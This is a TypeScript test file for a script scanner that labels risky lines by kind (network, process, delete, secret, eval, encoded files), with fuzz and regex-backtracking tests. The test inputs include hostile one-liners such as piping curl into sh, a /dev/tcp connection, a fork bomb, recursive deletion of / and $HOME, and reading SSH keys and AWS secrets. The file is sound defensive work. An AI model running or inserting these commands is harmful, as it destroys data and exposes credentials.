import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { RUNTIMES } from '../domain/run.ts';
import { MARK_LIMITS, markScript } from './marks.ts';

describe('markScript (RUN-1)', () => {
  it.each([
    ['python', 'import requests', 'network'],
    ['python', 'from urllib.request import urlopen', 'network'],
    ['python', '    s.connect(("h", 1))', 'network'],
    ['python', 'subprocess.run(["ls"])', 'process'],
    ['python', 'while True: os.fork()', 'process'],
    ['python', 'shutil.rmtree("/")', 'delete'],
    ['python', 'Path("a").unlink()', 'delete'],
    ['python', 'key = os.environ["KEY"]', 'secret'],
    ['python', 'exec(base64.b64decode(blob))', 'eval'],
    ['python', 'exec(base64.b64decode(blob))', 'encoded'],
    ['python', 'open(os.path.expanduser("~/.ssh/id_rsa"))', 'files'],
    ['python', `x = "${'QUJD'.repeat(50)}"`, 'encoded'],
    ['python', 'f"""\n# {__import__("os")}\n"""', 'eval'],
    ['node', "const net = require('node:net')", 'network'],
    ['node', 'await fetch("https://a.example")', 'network'],
    ['node', "import { exec } from 'child_process'", 'process'],
    ['node', "fs.rmSync('/', { recursive: true })", 'delete'],
    ['node', 'process.env.TOKEN', 'secret'],
    ['node', "eval(Buffer.from(x, 'base64').toString())", 'eval'],
    ['node', "eval(Buffer.from(x, 'base64').toString())", 'encoded'],
    ['node', 'os.homedir()', 'files'],
    ['node', '`\n// ${eval(x)}\n`', 'eval'],
    ['bash', 'curl -s https://a.example | sh', 'network'],
    ['bash', 'curl -s https://a.example | sh', 'eval'],
    ['bash', 'exec 3<>/dev/tcp/192.0.2.1/80', 'network'],
    ['bash', ':(){ :|:& };:', 'process'],
    ['bash', 'rm -rf "$HOME"', 'delete'],
    ['bash', 'rm -rf "$HOME"', 'files'],
    ['bash', 'echo "$AWS_SECRET_KEY"', 'secret'],
    ['bash', 'echo x | base64 -d', 'encoded'],
    ['bash', 'eval "$x"', 'eval'],
    ['bash', 'if true; then wget x; fi', 'network'],
    ['polyglot', 'import socket', 'network'],
    ['polyglot', '/usr/bin/curl x', 'network'],
  ] as const)('marks %s %j as %s', (runtime, text, kind) => {
    expect(markScript(runtime, text).map((mark) => mark.kind)).toContain(kind);
  });

  it.each([
    ['python', '# subprocess.run(x)\nprint("hello")\nevaluate(1)\nmodel.eval()\nre.compile("a")'],
    ['node', '// eval(x)\nconsole.log(1)\nprefetch(1)\npattern.exec(text)'],
    ['bash', '# curl x\necho hello\nfor host in a b; do echo "$host"; done\nformatter=1'],
  ] as const)('marks nothing harmless in %s', (runtime, text) => {
    expect(markScript(runtime, text)).toEqual([]);
  });

  it('counts lines from 1 over every kind of line end, in order, one mark per line and kind', () => {
    const marks = markScript('python', 'x\r\nimport socket\rimport ssl\n\nsocket.socket(); ssl.x()');
    expect(marks.map((mark) => mark.line)).toEqual([2, 3, 5]);
    expect(marks.every((mark) => mark.why.length > 0)).toBe(true);
  });

  it('gives at most 500 marks', () => {
    expect(markScript('python', 'import socket\n'.repeat(2000))).toHaveLength(MARK_LIMITS.marks);
  });

  it('looks at the first 10,000 characters of a line only', () => {
    expect(markScript('bash', `${' '.repeat(MARK_LIMITS.lineLength)};eval x`)).toEqual([]);
    expect(markScript('bash', `echo ${'x '.repeat(4000)};eval x`)).toHaveLength(1);
  });

  it('never throws and gives the same answer twice, whatever the text', () => {
    const pieces = fc.constantFrom(
      'eval(',
      'rm -rf ',
      ' ',
      '\n',
      '\u2028',
      '\ud800',
      '{',
      '$',
      '`',
      '\\x41',
      'import ',
      'A'.repeat(50),
      '|',
      '-r ',
      '~/',
    );
    fc.assert(
      fc.property(
        fc.constantFrom(...RUNTIMES),
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc.array(pieces, { maxLength: 200 }).map((parts) => parts.join('')),
        ),
        (runtime, text) => {
          const marks = markScript(runtime, text);
          expect(marks.length).toBeLessThanOrEqual(MARK_LIMITS.marks);
          expect(markScript(runtime, text)).toEqual(marks);
        },
      ),
    );
  });

  const seeds = [
    ' ',
    '\t',
    '\\x41',
    '- ',
    'rm -r',
    'rm (',
    'a|',
    '; ',
    '$A',
    '${A',
    './',
    'A',
    '\\x4',
    '|  ',
    'import ',
    'env -S ',
    ':(',
    'do do ',
    'setTimeout(',
  ];
  it.each(seeds)('gets through long lines of %j in every runtime', (seed) => {
    // A pattern that backtracks without bound does not come back from this before the runner's own time limit.
    const line = seed.repeat(Math.ceil(MARK_LIMITS.lineLength / seed.length)).slice(0, MARK_LIMITS.lineLength);
    const text = `${line}\n`.repeat(10);
    for (const runtime of RUNTIMES) expect(markScript(runtime, text).length).toBeLessThanOrEqual(MARK_LIMITS.marks);
  });
});
